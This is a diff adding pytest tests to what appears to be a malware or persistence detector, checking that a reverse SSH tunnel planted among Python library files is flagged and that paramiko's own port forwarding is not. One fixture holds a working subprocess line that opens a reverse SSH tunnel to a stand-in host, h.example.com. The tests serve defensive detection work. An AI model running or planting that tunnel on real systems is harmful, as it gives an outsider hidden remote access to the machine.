@@ -884,3 +884,18 @@ def test_no_command_stops_the_reader(argv: list[str], remote: bool) -> None:
 def test_no_configuration_stops_the_judge(words: list[str]) -> None:
     for command in shell.unwrap(tuple(words)) if words else ():
         list(deeds(command))
+
+
+@pytest.mark.parametrize("folder", ["usr/lib/python3.11", "usr/lib/python3/dist-packages/paramiko"])
+def test_a_tunnel_put_among_a_librarys_files_is_found(detect: Detect, folder: str) -> None:
+    planted = b"import subprocess\nsubprocess.Popen(['ssh', '-fN', '-R', '2222:127.0.0.1:22', 'u@h.example.com'])\n"
+
+    [found] = [f for f in detect({f"{folder}/_sync.py": planted}) if f.rule_id == "tunnel/reverse-ssh"]
+
+    assert found.details["destination"] == "h.example.com"
+
+
+def test_a_librarys_own_forwards_are_none(detect: Detect) -> None:
+    own = b"def forward(self, port):\n    return self.transport.request_port_forward('127.0.0.1', port)\n"
+
+    assert detect({"usr/lib/python3/dist-packages/paramiko/x.py": own}) == []
